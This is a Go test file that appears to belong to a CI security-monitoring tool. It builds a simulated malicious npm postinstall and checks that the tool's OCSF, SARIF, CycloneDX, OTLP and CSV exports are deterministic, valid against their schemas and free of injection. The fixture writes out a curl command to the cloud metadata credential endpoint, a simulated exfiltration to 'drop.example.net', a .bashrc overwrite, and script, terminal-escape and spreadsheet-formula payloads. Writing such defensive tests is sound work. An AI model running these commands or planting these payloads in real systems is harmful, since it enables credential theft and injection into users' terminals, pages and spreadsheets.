package report

import (
	"bytes"
	"encoding/base64"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/santhosh-tekuri/jsonschema/v6"
	otlp "go.opentelemetry.io/proto/otlp/trace/v1"
	"google.golang.org/protobuf/encoding/protojson"

	"github.com/org/edamame-posture/pkg/event"
	"github.com/org/edamame-posture/pkg/evidence"
	"github.com/org/edamame-posture/pkg/intent"
	"github.com/org/edamame-posture/pkg/redact"
	"github.com/org/edamame-posture/pkg/signature"
)

// attackFolder is an install script that asks the cloud for credentials, runs
// what it fetched, and has names that formulas, terminals and pages would obey.
func attackFolder(t *testing.T) string {
	t.Helper()
	s := newScene(t, "npm", "install", "evil")
	pack, err := signature.Default()
	if err != nil {
		t.Fatal(err)
	}
	policy, err := intent.Parse("ci/posture.yml", []byte("version: 1\negress: [\"packages.example.org:443\"]\nwrite: [\"node_modules/**\"]\n"))
	if err != nil {
		t.Fatal(err)
	}
	in, err := policy.Resolve("")
	if err != nil {
		t.Fatal(err)
	}
	for name, b := range map[string][]byte{evidence.SignaturesInput: pack.Canonical(), evidence.IntentInput: in.Canonical()} {
		if err := s.log.Input(name, b); err != nil {
			t.Fatal(err)
		}
	}
	npm := s.run(shell, "/usr/bin/node", "node", "/usr/bin/npm", "install", "evil")
	s.put(&event.Event{Kind: event.Step, Via: event.ViaMonitor, Actor: npm, Parent: shell, Job: s.text("build"), StepID: s.text("setup"), Detail: s.text("run")})
	s.send(npm, "packages.example.org", "198.51.100.20:443", 1800, 2_400_000)
	s.write(npm, "/home/ci/app/node_modules/evil/bin/evil")
	sh := event.Actor{PID: 900, Start: s.now}
	s.put(&event.Event{Kind: event.Fork, Actor: sh, Parent: npm})
	sh.Image = 1
	s.put(&event.Event{
		Kind: event.Exec, Actor: sh, Exe: s.text("/usr/bin/dash"), Filename: s.text("/bin/sh"), Cwd: s.text("/home/ci/app/node_modules/evil"), UID: 1000, GID: 1000,
		Argv: []redact.Text{s.text("sh"), s.text("-c"), s.text("curl http://169.254.169.254/\x1b[2J\u202e")},
		Env:  []event.Var{{Name: s.text("npm_lifecycle_event"), Value: s.text("postinstall")}, {Name: s.text("npm_package_name"), Value: s.text("evil")}},
	})
	curl := s.run(sh, "/usr/bin/curl", "curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")
	s.send(curl, "", "169.254.169.254:80", 180, 900)
	s.exit(curl, 0)
	bin := event.Actor{PID: 901, Start: s.now}
	s.put(&event.Event{Kind: event.Fork, Actor: bin, Parent: sh})
	bin.Image = 1
	content := event.Event{Kind: event.Exec, Actor: bin, Exe: s.text("/home/ci/app/node_modules/evil/bin/evil"), File: event.FileID{Dev: 1, Inode: 7}, CTime: 5, Size: 9}
	exec := content
	exec.Filename, exec.UID, exec.GID, exec.Cwd = exec.Exe, 1000, 1000, s.text("/home/ci/app")
	exec.Argv = []redact.Text{s.text("evil"), s.text("<script>alert(1)</script>")}
	s.put(&exec)
	content.Kind, content.SHA256 = event.Digest, event.SHA256{0xab, 1}
	s.put(&content)
	s.read(bin, "npm", "/home/ci/.npmrc")
	s.send(bin, "drop.example.net", "203.0.113.9:443", 70_000, 12)
	s.write(bin, "/home/ci/=HYPERLINK(\"x\")")
	s.put(&event.Event{Kind: event.Rename, Actor: bin, Path: s.text("/tmp/a"), NewPath: s.text("/home/ci/.bashrc")})
	s.put(&event.Event{Kind: event.Unlink, Actor: bin, Path: s.text("/tmp/b")})
	s.put(&event.Event{Kind: event.Chmod, Actor: bin, Path: s.text("/tmp/c"), Mode: 0o755})
	s.put(&event.Event{Kind: event.Mkdir, Actor: bin, Path: s.text("/tmp/d")})
	s.put(&event.Event{Kind: event.Link, Actor: bin, Path: s.text("/tmp/e"), NewPath: s.text("/tmp/f"), Detail: s.text("hard")})
	s.put(&event.Event{Kind: event.Ptrace, Actor: bin, Target: npm, Op: event.OpPoke})
	s.put(&event.Event{Kind: event.SetID, Actor: bin, UID: 1001})
	s.exit(bin, 1)
	s.exit(sh, 0)
	s.exit(npm, 0)
	s.end(0)
	return s.dir
}

func export(t *testing.T, dir, format string) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := Export(&b, dir, format); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func compile(t *testing.T, main string, others ...string) *jsonschema.Schema {
	t.Helper()
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	for _, name := range append(others, main) {
		f, err := os.Open(filepath.Join("testdata", "schema", name))
		if err != nil {
			t.Fatal(err)
		}
		doc, err := jsonschema.UnmarshalJSON(f)
		f.Close()
		if err != nil {
			t.Fatal(err)
		}
		if err := c.AddResource("http://cyclonedx.org/schema/"+name, doc); err != nil {
			t.Fatal(err)
		}
	}
	s, err := c.Compile("http://cyclonedx.org/schema/" + main)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func valid(t *testing.T, s *jsonschema.Schema, doc []byte) {
	t.Helper()
	v, err := jsonschema.UnmarshalJSON(bytes.NewReader(doc))
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Validate(v); err != nil {
		t.Errorf("%v in\n%s", err, doc)
	}
}

func TestTheSameEvidenceGivesTheSameBytes(t *testing.T) {
	dir, again := attackFolder(t), attackFolder(t)
	for _, format := range Formats {
		got := export(t, dir, format)
		if !bytes.Equal(got, export(t, again, format)) {
			t.Errorf("%s of the same events differs", format)
		}
		golden(t, "attack."+format, got)
	}
	d, err := Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := SARIF(&b, d); err != nil {
		t.Fatal(err)
	}
	golden(t, "attack.sarif", b.Bytes())
}

func TestNoExportHoldsWhatATerminalObeys(t *testing.T) {
	dir := attackFolder(t)
	for _, format := range Formats {
		for _, r := range string(export(t, dir, format)) {
			if r < ' ' && r != '\n' && r != '\r' || r == 0x7f || r == 0x202e {
				t.Errorf("%s holds U+%04x", format, r)
			}
		}
	}
}

func TestOCSFFitsItsSchemaAndHasEveryClass(t *testing.T) {
	s := compile(t, "ocsf-1.9.0.json")
	seen := map[string]int{}
	uids := map[string]bool{}
	for line := range bytes.Lines(export(t, attackFolder(t), "ocsf")) {
		valid(t, s, line)
		var l ocsfEvent
		if err := json.Unmarshal(line, &l); err != nil {
			t.Fatal(err)
		}
		if uids[l.Metadata.UID] {
			t.Errorf("two lines have the id %s", l.Metadata.UID)
		}
		uids[l.Metadata.UID] = true
		seen[fmt.Sprint(l.Class, "/", l.Activity)]++
	}
	for _, want := range []string{"1007/1", "1007/2", "1007/4", "1007/5", "1001/1", "1001/2", "1001/4", "1001/5", "1001/7", "1001/99", "4001/1", "4001/2", "4001/6", "4003/1", "4003/2", "2004/1", "0/0"} {
		if seen[want] == 0 {
			t.Errorf("class and activity %s is not there: %v", want, seen)
		}
	}
}

func TestOCSFSchemaRefusesWhatItDoesNotName(t *testing.T) {
	s := compile(t, "ocsf-1.9.0.json")
	line, _, _ := bytes.Cut(export(t, attackFolder(t), "ocsf"), []byte("\n"))
	v, err := jsonschema.UnmarshalJSON(bytes.NewReader(line))
	if err != nil {
		t.Fatal(err)
	}
	v.(map[string]any)["colour"] = "red"
	if s.Validate(v) == nil {
		t.Error("an attribute that OCSF does not have is let through")
	}
}

func TestSARIFFitsItsSchemaAndStandsAtTheSteps(t *testing.T) {
	d, err := Load(attackFolder(t))
	if err != nil {
		t.Fatal(err)
	}
	d.Steps = map[string]Place{"setup": {".github/workflows/ci.yml", 17}}
	var b bytes.Buffer
	if err := SARIF(&b, d); err != nil {
		t.Fatal(err)
	}
	valid(t, compile(t, "sarif-2.1.0-rtm.5.json"), b.Bytes())
	var got sarif
	if err := json.Unmarshal(b.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	run := got.Runs[0]
	if len(run.Taxonomies) != 1 || len(run.Taxonomies[0].Taxa) == 0 || len(run.Tool.Driver.Supported) != 1 {
		t.Errorf("there is no taxonomy of techniques: %+v", run.Taxonomies)
	}
	at := map[string]int{}
	for _, r := range run.Results {
		p := r.Locations[0].Physical
		at[fmt.Sprint(p.Artifact.URI, ":", p.Region.StartLine)]++
		if r.PartialFingerprints["posture/v1"] == "" {
			t.Errorf("%s has no fingerprint", r.RuleID)
		}
	}
	if at[".github/workflows/ci.yml:17"] == 0 {
		t.Errorf("places are %v, and none is the step", at)
	}
	d.Steps = nil
	b.Reset()
	if err := SARIF(&b, d); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), `"uri": "ci/posture.yml"`) {
		t.Error("without a workflow no result stands at the policy")
	}
}

func TestCycloneDXFitsItsSchemaAndNamesWhereAFileCameFrom(t *testing.T) {
	doc := export(t, attackFolder(t), "cyclonedx")
	valid(t, compile(t, "bom-1.6.schema.json", "spdx.schema.json", "jsf-0.82.schema.json"), doc)
	var b cdxBOM
	if err := json.Unmarshal(doc, &b); err != nil {
		t.Fatal(err)
	}
	if len(b.Components) != 1 || len(b.Components[0].Hashes) != 1 || !strings.HasPrefix(b.Components[0].Hashes[0].Content, "ab01") {
		t.Fatalf("components are %+v", b.Components)
	}
	from := ""
	for _, p := range b.Components[0].Properties {
		if p.Name == "posture:writer-received-from" {
			from += p.Value
		}
	}
	if from != "packages.example.org" {
		t.Errorf("it came from %q", from)
	}
	if len(b.Services) != 3 {
		t.Errorf("services are %+v", b.Services)
	}
}

// wire turns the ids of OTLP/JSON, which are hex there, into the base64 that
// protojson reads.
func wire(v any) {
	switch v := v.(type) {
	case map[string]any:
		for k, e := range v {
			if s, ok := e.(string); ok && (k == "traceId" || k == "spanId" || k == "parentSpanId") {
				b, _ := hex.DecodeString(s)
				v[k] = base64.StdEncoding.EncodeToString(b)
				continue
			}
			wire(e)
		}
	case []any:
		for _, e := range v {
			wire(e)
		}
	}
}

func TestOTLPIsOneTraceWhoseParentsAreThere(t *testing.T) {
	var v any
	if err := json.Unmarshal(export(t, attackFolder(t), "otlp"), &v); err != nil {
		t.Fatal(err)
	}
	wire(v)
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	// The proto refuses names and types that it does not have.
	var data otlp.TracesData
	if err := protojson.Unmarshal(b, &data); err != nil {
		t.Fatal(err)
	}
	spans := data.ResourceSpans[0].ScopeSpans[0].Spans
	ids := map[string]bool{"": true}
	names, events := map[string]bool{}, 0
	for _, s := range spans {
		if len(s.TraceId) != 16 || len(s.SpanId) != 8 || ids[string(s.SpanId)] || !ids[string(s.ParentSpanId)] {
			t.Errorf("span %s: trace %x, id %x, parent %x", s.Name, s.TraceId, s.SpanId, s.ParentSpanId)
		}
		if s.EndTimeUnixNano < s.StartTimeUnixNano {
			t.Errorf("span %s ends before it begins", s.Name)
		}
		ids[string(s.SpanId)], names[s.Name] = true, true
		events += len(s.Events)
	}
	if len(spans) != 6 || !names["curl"] || !names["evil"] || events == 0 {
		t.Errorf("%d spans, %v, %d findings", len(spans), names, events)
	}
}

func TestNoCellOfACSVIsAFormula(t *testing.T) {
	dir := attackFolder(t)
	for _, format := range []string{"csv", "controls"} {
		rows, err := csv.NewReader(bytes.NewReader(export(t, dir, format))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) < 2 {
			t.Fatalf("%s has no rows", format)
		}
		for _, row := range rows {
			for _, c := range row {
				if c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
					t.Errorf("%s: cell %q is a formula", format, c)
				}
			}
		}
	}
}

func FuzzCell(f *testing.F) {
	for _, s := range []string{"=1+1", "  @x", "\t=1", "＝1", "a", "", "-1", "\u202e=1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := cell(s)
		if trimmed := strings.TrimLeft(c, " \t\r\n"); strings.IndexAny(trimmed, "=+-@＝＋－＠") == 0 {
			t.Errorf("%q became %q", s, c)
		}
		if strings.ContainsAny(c, "\r\n\x00\x1b") {
			t.Errorf("%q became %q", s, c)
		}
	})
}

func FuzzEscapeJSON(f *testing.F) {
	for _, s := range []string{"a", "\u202e", "\U000e0041", "é", "\x7f", "\u0085"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var b bytes.Buffer
		if err := writeJSON(&b, s); err != nil {
			t.Fatal(err)
		}
		var got string
		if err := json.Unmarshal(b.Bytes(), &got); err != nil {
			t.Fatalf("%q became %q: %v", s, b.String(), err)
		}
		if want := strings.ToValidUTF8(s, "\uFFFD"); len(got) > 0 && strings.Count(got, "\uFFFD") == 0 && got != want {
			t.Errorf("%q became %q", s, got)
		}
	})
}

func TestControlsHaveARowForEachJob(t *testing.T) {
	a, b := attackFolder(t), attackFolder(t)
	var out bytes.Buffer
	if err := Controls(&out, a, b); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("two runs of one job are %d rows", len(rows)-1)
	}
	row := map[string]string{}
	for i, name := range rows[0] {
		row[name] = rows[1][i]
	}
	if row["runs"] != "2" || row["intentPresent"] != "true" || row["lastVerdict"] != "fail" || row["evidenceDigest"] == "" || !strings.Contains(row["soc2"], "CC7.2") {
		t.Errorf("the row is %v", row)
	}
}

func TestAFormatThatIsNotThereIsNamed(t *testing.T) {
	err := Export(io.Discard, attackFolder(t), "xml")
	if err == nil || !strings.Contains(err.Error(), "otlp") {
		t.Errorf("the error is %v", err)
	}
}

func BenchmarkOCSFOfAMillionEvents(b *testing.B) {
	s := &scene{now: 5_000_000_000, pids: 411, dir: b.TempDir(), red: redact.New([32]byte{1}, redact.Options{})}
	log, err := evidence.Create(filepath.Join(s.dir, "evidence"), evidence.Options{Run: "boot-1:412", NoSync: true})
	if err != nil {
		b.Fatal(err)
	}
	put := func(ev *event.Event) {
		s.now += 1000
		ev.Time = s.now
		if err := log.Append(ev); err != nil {
			b.Fatal(err)
		}
	}
	put(&event.Event{Kind: event.Start, Via: event.ViaMonitor, Version: event.Version, Wall: 1_795_428_000_000_000_000})
	make := event.Actor{PID: 412, Start: 1, Image: 1}
	put(&event.Event{Kind: event.Exec, Actor: make, Exe: s.text("/usr/bin/make"), Argv: []redact.Text{s.text("make")}})
	for i := range 1_000_000 {
		put(&event.Event{Kind: event.Open, Actor: make, Access: event.Write | event.Create, Path: s.text(fmt.Sprintf("/home/ci/app/out/%d/%d.o", i%500, i))})
	}
	put(&event.Event{Kind: event.End, Via: event.ViaMonitor})
	if _, err := log.Close(evidence.Closing{Boottime: s.now}); err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		if err := Export(io.Discard, s.dir, "ocsf"); err != nil {
			b.Fatal(err)
		}
	}
}
